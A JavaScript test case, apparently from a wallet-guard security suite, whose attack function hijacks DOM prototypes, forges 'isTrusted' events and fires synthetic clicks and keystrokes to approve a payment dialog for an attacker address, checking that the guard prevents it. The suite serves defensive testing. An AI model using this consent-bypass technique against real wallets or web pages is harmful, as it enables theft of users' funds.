// The guard asks the user; a script answers: synthetic clicks and keys everywhere, focus, poisoned methods that would hand out the closed tree.
import { reachedWallet } from './logs.mjs';

export default {
  title: 'the question is answered by a script',
  id: 'T4',
  source: 'dialogs drawn in the page',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], unknown: { payee: 'ask' } }),

  async attack(a) {
    const roots = [];
    const spy = (owner, name) => {
      const native = owner?.[name];
      if (typeof native !== 'function') return;
      owner[name] = function () {
        roots[roots.length] = this;
        for (let i = 0; i < arguments.length; i += 1) roots[roots.length] = arguments[i];
        const result = Reflect.apply(native, this, arguments);
        roots[roots.length] = result;
        return result;
      };
    };
    spy(Element.prototype, 'attachShadow');
    spy(HTMLDialogElement.prototype, 'showModal');
    spy(Document.prototype, 'createElement');
    spy(Node.prototype, 'appendChild');
    spy(EventTarget.prototype, 'addEventListener');
    spy(CSSStyleSheet.prototype, 'replaceSync');
    spy(Array.prototype, Symbol.iterator);
    Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true, configurable: true });
    Element.prototype.checkVisibility = () => true;
    Document.prototype.elementFromPoint = () => document.documentElement.lastChild;
    const sent = window.ethereum.request({
      method: 'eth_sendTransaction',
      params: [{ from: a.USER, to: a.EVIL, value: '0x5' }],
    });
    const answer = () => {
      const targets = roots.concat([window, document, document.activeElement, document.documentElement.lastChild]);
      for (let i = 0; i < targets.length; i += 1) {
        const target = targets[i];
        if (typeof target?.dispatchEvent !== 'function') continue;
        target.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, clientX: 600, clientY: 400 }));
        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', composed: true }));
        target.dispatchEvent(new KeyboardEvent('keyup', { key: 'Enter', composed: true }));
        const buttons = target.querySelectorAll?.('button') ?? [];
        for (let k = 0; k < buttons.length; k += 1) buttons[k].click();
      }
    };
    for (let i = 0; i < 30; i += 1) {
      answer();
      await new Promise((resolve) => setTimeout(resolve, 70));
    }
    // Whoever takes the question away has answered it.
    if (document.documentElement.lastElementChild.localName === 'div')
      document.documentElement.lastElementChild.remove();
    return sent;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  timeout: 30_000,

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_sendTransaction'),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
